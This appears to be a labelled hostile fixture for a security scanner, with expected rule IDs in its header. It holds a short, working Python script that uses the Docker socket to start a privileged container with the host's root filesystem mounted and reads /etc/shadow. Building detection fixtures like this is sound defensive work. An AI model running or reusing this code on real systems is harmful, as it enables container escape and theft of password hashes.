# label: hostile
# expect: V102 V301
# note: Speaks HTTP to the Docker socket to start a container with the host's root mounted.
# allow: V101
import http.client
import json
import socket


class Unix(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect("/var/run/docker.sock")


c = Unix("localhost")
spec = {"Image": "alpine", "Cmd": ["cat", "/h/etc/shadow"], "HostConfig": {"Binds": ["/:/h"], "Privileged": True}}
c.request("POST", "/containers/create", json.dumps(spec), {"Content-Type": "application/json"})
cid = json.loads(c.getresponse().read())["Id"]
c.request("POST", f"/containers/{cid}/start")
print(c.getresponse().status)
